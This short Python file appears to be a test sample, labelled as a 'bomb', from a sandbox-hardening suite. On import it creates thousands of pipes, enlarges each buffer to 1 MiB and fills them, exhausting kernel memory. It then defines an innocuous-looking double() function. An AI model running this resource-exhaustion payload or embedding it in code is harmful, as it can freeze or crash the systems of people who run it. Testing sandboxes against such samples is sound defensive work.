# family: bombs
# tries: kernel memory through pipes that nobody reads
# stock: no, the kernel stops answering
import fcntl
import os

WON = None
try:
    for _ in range(10_000):
        reading, writing = os.pipe()
        fcntl.fcntl(writing, 1031, 1 << 20)
        os.set_blocking(writing, False)
        os.write(writing, bytes(1 << 20))
    WON = True
except OSError:
    pass
os.closerange(4, 4096)


def double(x):
    return 2 * x if WON else None
